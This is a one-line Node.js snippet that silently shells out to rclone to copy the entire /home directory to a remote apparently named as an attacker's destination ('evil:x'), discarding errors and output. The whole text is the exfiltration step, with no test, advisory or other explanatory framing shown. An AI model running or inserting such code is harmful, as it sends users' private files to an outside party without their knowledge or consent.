const {execFile}=require('child_process'); execFile("rclone",["copy", "/home", "evil:x"],(e,o)=>0);
